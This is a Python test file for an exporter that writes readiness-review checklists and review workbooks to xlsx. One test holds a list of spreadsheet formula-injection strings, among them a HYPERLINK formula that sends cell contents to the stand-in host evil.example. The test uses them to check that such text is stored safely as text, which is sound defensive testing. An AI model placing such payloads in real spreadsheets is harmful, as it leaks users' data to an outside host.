"""`orr xlsx export`: the checklist and review workbooks, read back with openpyxl."""

from __future__ import annotations

import hashlib
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
import tomli_w
from openpyxl.worksheet.worksheet import Worksheet

from orr.checklist import load_checklist
from orr.review.model import Review
from orr.sheet import layout as L
from orr.sheet.cells import MAX_CELL_TEXT, RISK_FILLS
from orr.sheet.export import export_checklist, export_review
from tests.helpers import write_checklist
from tests.test_sheet_support import (
    TODAY,
    column_of,
    formula_cells,
    make_review,
    open_book,
    rows_as_dicts,
)


def _validations(ws: Worksheet) -> dict[str, str]:
    """sqref -> formula of each drop-down."""
    out: dict[str, str] = {}
    for dv in ws.data_validations.dataValidation:
        for rng in str(dv.sqref).split():
            out[rng] = dv.formula1
    return out


def _cf_rules(ws: Worksheet, rng: str) -> list[tuple[str, str | None]]:
    """(formula, fill colour) of the conditional formats on a range."""
    out: list[tuple[str, str | None]] = []
    for cf in ws.conditional_formatting:
        if str(cf.sqref) != rng:
            continue
        for rule in cf.rules:
            fill = rule.dxf.fill.fgColor.rgb[-6:] if rule.dxf and rule.dxf.fill else None
            out.append((rule.formula[0], fill))
    return out


def test_checklist_workbook_is_made_to_be_read(tmp_path: Path) -> None:
    manifest = write_checklist(tmp_path / "cl")
    out = tmp_path / "checklist.xlsx"
    result = export_checklist(manifest, out)
    assert result.path == out and result.kind == "checklist"
    wb = open_book(out)
    assert wb.sheetnames == [L.README, L.CHECKLIST, L.PILLARS, L.LENS, L.SOURCES]
    assert wb[L.SOURCES].sheet_state == "hidden"
    assert all(wb[n].sheet_state == "visible" for n in wb.sheetnames[:-1])

    readme = [c for row in wb[L.README].iter_rows(values_only=True) for c in row if c]
    assert "Test checklist (id test_lens)" in readme and "1.0" in readme

    ws = wb[L.CHECKLIST]
    headers = [c.value for c in ws[1]]
    # What a reader reads first (and what prints), then every other column of the checklist.
    assert headers[:8] == [*L.CHECKLIST_FIRST, L.IMPROVEMENT]
    assert sorted(headers) == sorted(c.header for c in L.CHECKLIST_COLUMNS)
    assert ws.freeze_panes == "C2"
    assert ws.auto_filter.ref == "A1:AE4"  # header + 2 practices + "None of these"
    # Widths fit the content, within each column's bounds.
    assert 20 <= ws.column_dimensions["C"].width <= 42  # "Is access least privilege?"
    assert ws.column_dimensions["E"].width <= 10  # severity: "high"
    assert ws["A1"].font.b and ws["A1"].fill.fgColor.rgb.endswith("1F4E78")
    # Every text cell carries its own wrap and alignment (LibreOffice ignores the default).
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.alignment.wrap_text and cell.alignment.vertical == "top", cell
    rows = rows_as_dicts(ws)
    assert [r[L.CHOICE_ID] for r in rows] == ["sec_roles", "sec_review", "sec_access_no"]
    assert rows[0][L.DESCRIPTION] is None and rows[0][L.REFERENCES] == "SEC03-BP02"
    assert rows[0][L.SEVERITY] == "high" and rows[2][L.SEVERITY] == "high"  # repeated: filters
    assert rows[1][L.REFERENCES] is None  # long question fields on the first row only
    assert rows[2][L.CHOICE] == "None of these"

    def letter(header: str) -> str:
        return str(ws.cell(1, column_of(ws, header)).column_letter)

    dv = _validations(ws)
    assert dv[f"{letter(L.SEVERITY)}2:{letter(L.SEVERITY)}4"] == '"high,medium"'
    assert dv[f"{letter(L.OWNER_ROLE)}2:{letter(L.OWNER_ROLE)}4"] == "'Lens'!$E$2:$E$200"
    assert dv["A2:A4"] == "'Pillars'!$A$2:$A$200"
    # The first row of each question has a rule above it and its title in bold.
    assert _cf_rules(ws, "A2:AE4") == [('AND($C2<>"",$C2<>$C1)', None)]
    # It prints landscape, one page wide, its header row on every page, the reading columns.
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
    assert ws.page_setup.fitToHeight == 0 and ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == "$1:$1" and ws.print_area == "'Checklist'!$A$1:$H$4"
    assert ws.oddHeader.left.text == "Test checklist 1.0" and ws.oddHeader.center.text == "&A"
    assert ws.oddFooter.right.text == "Page &P of &N"

    pillars = rows_as_dicts(wb[L.PILLARS])
    assert pillars == [
        {"pillar id": "security", "name": "Security", "questions": 1, "high": 1, "medium": 0}
    ]
    lens = {r[0]: r[1] for r in wb[L.LENS].iter_rows(min_row=2, values_only=True) if r[0]}
    assert lens[L.LENS_ID] == "test_lens" and lens[L.LENS_SIGNOFFS] == "owner"
    roles = [r[4] for r in wb[L.LENS].iter_rows(min_row=2, values_only=True) if r[4]]
    assert roles == ["owner", "security"]


def test_review_workbook_has_gate_findings_answers_and_audit(tmp_path: Path) -> None:
    review_path, _ = make_review(tmp_path)
    out = tmp_path / "review.xlsx"
    result = export_review(review_path, out, TODAY)
    assert result.kind == "review" and "NOT READY" in result.summary
    wb = open_book(out)
    assert wb.sheetnames == [
        L.SUMMARY, L.FINDINGS, L.MITIGATIONS, L.ACCEPTANCES, L.SIGNOFFS, L.CHECKLIST, L.AUDIT,
        L.README, L.LISTS, L.PILLARS, L.LENS, L.SOURCES, L.META,
    ]  # fmt: skip
    assert wb.active.title == L.SUMMARY  # it opens on the verdict
    hidden = [n for n in wb.sheetnames if wb[n].sheet_state == "hidden"]
    assert hidden == [L.LISTS, L.PILLARS, L.LENS, L.SOURCES, L.META]

    summary = {r[0]: r[1] for r in wb[L.SUMMARY].iter_rows(values_only=True) if r and r[0]}
    assert summary["Workload"] == "payments"
    assert summary["Launch date"] == datetime(2025, 3, 1)  # a date, not text
    assert summary["Days left"] == 19
    assert summary["Verdict"] == "NOT READY"
    assert summary["HIGH risk findings"] == 1 and summary["Mitigations"] == 3
    ws = wb[L.SUMMARY]
    launch = next(c for row in ws.iter_rows() for c in row if c.value == datetime(2025, 3, 1))
    assert launch.is_date and launch.number_format == "yyyy-mm-dd"
    verdict = next(c for row in ws.iter_rows() for c in row if c.value == "NOT READY")
    assert verdict.fill.fgColor.rgb.endswith("F8CBAD")
    assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 1  # one page
    assert ws.oddHeader.left.text == "payments" and ws.oddHeader.right.text == "NOT READY"
    assert ws.oddFooter.left.text == "as of 2025-02-10; launch 2025-03-01"
    with zipfile.ZipFile(out) as z:
        assert any(n.startswith("xl/charts/chart") for n in z.namelist())

    findings = rows_as_dicts(wb[L.FINDINGS])
    assert len(findings) == 1
    f = findings[0]
    assert f[L.F_QUESTION_ID] == "sec_access" and f[L.F_RISK] == "HIGH_RISK"
    assert f[L.F_STATUS] == "risk accepted\nblocks the launch"  # M1 blocks until done
    assert f[L.F_GAP] == "• Reviewed permissions: Review them."  # the practice missing
    assert f[L.F_NOTES] == "roles split in Q1"
    plan = f[L.F_PLAN].splitlines()
    assert plan[0] == "A1 risk accepted by Dana (owner) until 2025-04-01: Beta only"
    assert plan[1] == "M1 Split roles: alice, due 2025-02-01, open, 9 days overdue, blocking"
    assert f[L.F_OVERDUE] == 9 and f[L.F_DUE] == datetime(2025, 2, 1)
    # What is needed next, in the gate's words (never a command).
    assert f[L.F_NEXT].startswith("M2 must be done before launch but is due 2025-03-15")
    assert "orr review" not in f[L.F_NEXT] and f[L.F_OWNER] == "bob"

    ws = wb[L.CHECKLIST]
    headers = [c.value for c in ws[1]]
    assert headers[:7] == list(L.REVIEW_CHECKLIST_FIRST)  # the answer by the choice
    rows = rows_as_dicts(ws)
    # The "None of these" orr adds shows only when it was selected.
    assert [r[L.CHOICE_ID] for r in rows] == ["sec_roles", "sec_review"]
    assert [r[L.SELECTED] for r in rows] == ["yes", None]
    assert [r[L.QUESTION] for r in rows] == ["Is access least privilege?", None]
    assert {r[L.RISK] for r in rows} == {"HIGH_RISK"}
    assert rows[0][L.ANSWER] == "1 of 2 practices" and rows[0][L.NOTES] == "roles split in Q1"
    assert isinstance(rows[0][L.ANSWERED_AT], datetime)
    risk = ws.cell(1, column_of(ws, L.RISK)).column_letter
    assert ('"HIGH_RISK"', RISK_FILLS["HIGH_RISK"]) in _cf_rules(ws, f"{risk}2:{risk}3")
    assert ws.page_setup.orientation == "portrait" and ws.print_area == "'Checklist'!$A$1:$G$3"

    ws = wb[L.MITIGATIONS]
    mits = rows_as_dicts(ws)
    assert [m[L.MITIGATION_ID] for m in mits] == ["M1", "M2", "M3"]
    m1 = mits[0]
    assert m1[L.M_STATUS] == "open" and m1[L.M_OWNER] == "alice" and m1[L.M_RISK] == "HIGH_RISK"
    assert m1[L.M_DUE] == datetime(2025, 2, 1) and m1[L.M_OVERDUE] == 9  # days, a number to sort by
    assert mits[2][L.M_DUE] is None and mits[1][L.M_OVERDUE] is None
    due = ws.cell(2, column_of(ws, L.M_DUE))
    assert due.is_date and due.font.color.rgb.endswith("9C0006")  # overdue in red
    assert ws.cell(1, column_of(ws, L.M_STATUS)).fill.fgColor.rgb.endswith("FFF2CC")  # edit me
    status = ws.cell(1, column_of(ws, L.M_STATUS)).column_letter
    owner = ws.cell(1, column_of(ws, L.M_OWNER)).column_letter
    due_col = ws.cell(1, column_of(ws, L.M_DUE)).column_letter
    dv = _validations(ws)
    assert dv[f"{status}2:{status}4"] == '"open,in_progress,done,withdrawn"'
    assert dv[f"{owner}2:{owner}4"] == "_lists!$A$2:$A$4"  # the stakeholders, then owners
    assert [r[0] for r in wb[L.LISTS].iter_rows(min_row=2, values_only=True)] == [
        "alice",
        "bob",
        "carol",
    ]
    date_rule = next(
        v for v in ws.data_validations.dataValidation if str(v.sqref) == f"{due_col}2:{due_col}4"
    )
    assert date_rule.type == "date" and date_rule.showErrorMessage
    assert ws.freeze_panes == "B2" and ws.auto_filter.ref == "A1:O4"

    acc = rows_as_dicts(wb[L.ACCEPTANCES])
    assert acc[0]["acceptance"] == "A1" and acc[0]["valid"] == "yes"
    assert acc[0]["expires"] == datetime(2025, 4, 1)
    signoffs = rows_as_dicts(wb[L.SIGNOFFS])
    assert signoffs[0]["role"] == "owner" and signoffs[0]["name"] == "Pat"
    assert signoffs[0]["status"] == "valid"
    audit = rows_as_dicts(wb[L.AUDIT])
    review_text = review_path.read_text(encoding="utf-8")
    assert len(audit) == review_text.count("[[audit]]")
    assert all(isinstance(a["at"], datetime) for a in audit)

    meta = {r[0]: r[1] for r in wb[L.META].iter_rows(values_only=True) if r[0]}
    assert meta["review sha256"] == "sha256:" + hashlib.sha256(review_path.read_bytes()).hexdigest()
    assert meta["workload"] == "payments"
    # The file's name only: never where the exporter keeps it (issue 13, item 11).
    assert meta["review file"] == "review.toml"
    assert str(tmp_path) not in "".join(
        str(v) for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for v in row
    )


def test_a_finding_without_a_plan_says_what_is_needed_in_words(tmp_path: Path) -> None:
    from orr.review.store import ReviewStore

    review_path, _ = make_review(tmp_path)

    def drop(review: Review) -> None:
        review.mitigations.clear()
        review.acceptances.clear()

    ReviewStore(review_path).transact(drop, "x")
    out = tmp_path / "r.xlsx"
    export_review(review_path, out, TODAY)
    wb = open_book(out)
    assert rows_as_dicts(wb[L.MITIGATIONS]) == []
    (row,) = rows_as_dicts(wb[L.FINDINGS])
    assert row[L.F_QUESTION_ID] == "sec_access"
    assert row[L.F_PLAN] == "no mitigation and no acceptance yet"
    assert row[L.F_STATUS] == "no plan yet\nblocks the launch"
    assert row[L.F_NEXT].startswith("HIGH risk with neither a done mitigation")
    assert "orr " not in row[L.F_NEXT]  # words, never a command


NASTY = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tx=1",
    "\rx",
    "=1+1",
    "#N/A",
]


def test_text_that_looks_like_a_formula_is_stored_as_text(tmp_path: Path) -> None:
    from orr.review.model import now_utc
    from orr.review.store import ReviewStore

    source = tomli_w.dumps(
        {
            "schema_version": 1,
            "kind": "security",
            "pillars": [
                {
                    "id": "security",
                    "name": NASTY[0],
                    "questions": [
                        {
                            "id": "sec_access",
                            "title": NASTY[1],
                            "description": NASTY[2],
                            "owner_role": "security",
                            "choices": [
                                {
                                    "id": "sec_roles",
                                    "title": NASTY[3],
                                    "helpful": "ok\x01bell",
                                    "improvement": NASTY[6],
                                }
                            ],
                        }
                    ],
                }
            ],
        }
    )
    manifest = write_checklist(tmp_path / "cl", sources={"security.toml": source})
    checklist = load_checklist(manifest)
    assert checklist.pillars[0].name == NASTY[0]
    out = tmp_path / "c.xlsx"
    export_checklist(manifest, out)
    assert formula_cells(out) == []
    ws = open_book(out)[L.CHECKLIST]
    title = ws.cell(2, column_of(ws, L.QUESTION))
    assert title.value == "+1+1" and title.data_type == "s" and title.quotePrefix
    assert ws.cell(2, column_of(ws, L.IMPROVEMENT)).value == "=1+1"
    assert ws.cell(2, column_of(ws, L.HELPFUL)).value == "ok\\x01bell"  # shown, not dropped
    pillars = open_book(out)[L.PILLARS]
    assert pillars["B2"].value == NASTY[0] and pillars["B2"].data_type == "s"

    review_path, _ = make_review(tmp_path / "r", workload=NASTY[0])

    def nasty(review: Review) -> None:
        for m, text in zip(review.mitigations, NASTY[3:], strict=False):
            m.notes = text
            m.owner = NASTY[4]
        review.mitigations[0].title = NASTY[5]
        review.answers["sec_access"].notes = NASTY[7] + "\n" + "y" * (MAX_CELL_TEXT + 10)
        review.mitigations[1].updated_at = now_utc()

    ReviewStore(review_path).transact(nasty, "x")
    out = tmp_path / "r.xlsx"
    export_review(review_path, out, TODAY)
    assert formula_cells(out) == []
    wb = open_book(out)
    mits = rows_as_dicts(wb[L.MITIGATIONS])
    assert [m[L.M_NOTES] for m in mits] == [NASTY[3], NASTY[4], "\nx"]  # CR reads back as LF
    assert mits[0][L.M_OWNER] == "\tx=1" and mits[0][L.M_TITLE] == "\nx"  # CR read as LF
    ws = wb[L.MITIGATIONS]
    assert all(
        ws.cell(r, column_of(ws, L.M_NOTES)).data_type == "s" for r in range(2, 5)
    )  # never "e" for "#N/A", never "f"
    notes = rows_as_dicts(wb[L.CHECKLIST])[0][L.NOTES]
    assert notes.startswith("#N/A\nyyy") and len(notes) == MAX_CELL_TEXT and notes[-1] == "…"
    summary = [c for row in wb[L.SUMMARY].iter_rows(values_only=True) for c in row if c]
    assert NASTY[0] in summary


def test_export_of_missing_or_broken_input_is_one_line(tmp_path: Path) -> None:
    from orr.errors import InputError

    with pytest.raises(InputError, match="no such file"):
        export_checklist(tmp_path / "nope.toml", tmp_path / "x.xlsx")
    review_path, _ = make_review(tmp_path)
    text = review_path.read_text(encoding="utf-8").replace('manifest = "', 'manifest = "gone/')
    review_path.write_text(text, encoding="utf-8")
    with pytest.raises(InputError, match="is not there"):
        export_review(review_path, tmp_path / "x.xlsx", date(2025, 1, 1))
    assert not (tmp_path / "x.xlsx").exists()
